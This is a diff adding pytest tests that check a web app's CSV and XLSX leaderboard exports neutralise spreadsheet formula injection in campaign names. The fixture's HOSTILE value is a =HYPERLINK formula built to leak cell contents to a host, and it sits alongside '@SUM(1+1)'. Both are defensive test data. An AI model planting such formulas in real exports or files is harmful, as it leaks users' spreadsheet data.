@@ -273,3 +273,65 @@ def test_table_export_query_count_is_the_same_for_one_and_three_campaigns(
         assert len(rows[0]) == 2 + 2 * 3  # task, domain, then passes and done per campaign
     else:
         assert {row["campaign"] for row in rows} == {"C1", "C2", "C3"}
+
+
+HOSTILE = '=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")'
+
+
+@pytest.fixture
+def hostile_campaigns(summaries_campaign):
+    a = summaries_campaign({T1: (4, 4), T2: (4, 1)}, name=HOSTILE, n=4)
+    b = summaries_campaign({T1: (4, 4), T2: (4, 4)}, name="@SUM(1+1)", n=4)
+    return a, b
+
+
+def test_table_csv_neutralises_text_that_starts_like_a_formula(client, bob, hostile_campaigns):
+    client.force_login(bob)
+
+    rows = _csv(client.get("/exports/tables/leaderboard.csv?sort=name&dir=asc"))
+
+    assert sorted(row["campaign"] for row in rows) == ["'" + HOSTILE, "'@SUM(1+1)"]
+
+
+def test_table_xlsx_stores_formula_like_names_as_text_never_as_formulas(client, bob, hostile_campaigns):
+    client.force_login(bob)
+
+    response = client.get("/exports/tables/leaderboard.xlsx?sort=name&dir=asc")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [sheet.cell(row=r, column=1) for r in (2, 3)]
+    assert sorted((cell.value, cell.data_type) for cell in cells) == [(HOSTILE, "s"), ("@SUM(1+1)", "s")]
+    assert b"<f>" not in _sheet_xml(response.content)
+
+
+def test_procurement_workbook_holds_no_formula(hostile_campaigns):
+    content, _ = build_workbook(campaigns=list(hostile_campaigns))
+
+    book = load_workbook(io.BytesIO(content))
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert "f" not in kinds
+    summary = book["Summary"]
+    column = [cell.value for cell in summary[1]].index("campaign") + 1
+    assert sorted(summary.cell(row=r, column=column).value for r in (2, 3)) == [HOSTILE, "@SUM(1+1)"]
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"".join(
+            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
+        )
+
+
+def test_about_blocks_keep_hostile_campaign_names_inert(client, bob, hostile_campaigns):
+    client.force_login(bob)
+
+    workbook = client.get("/exports/tables/leaderboard.xlsx?sort=name&dir=asc").content
+    text = client.get("/exports/tables/leaderboard.csv?sort=name&dir=asc").content.decode()
+
+    about = load_workbook(io.BytesIO(workbook))["About"]
+    assert "f" not in {cell.data_type for row in about.iter_rows() for cell in row}
+    about_lines = [line for line in text.splitlines() if line.startswith("#")]
+    pieces = [piece.lstrip() for line in about_lines for piece in line.split(",")[1:]]
+    assert [piece for piece in pieces if piece.startswith(("=", "+", "-", "@"))] == []
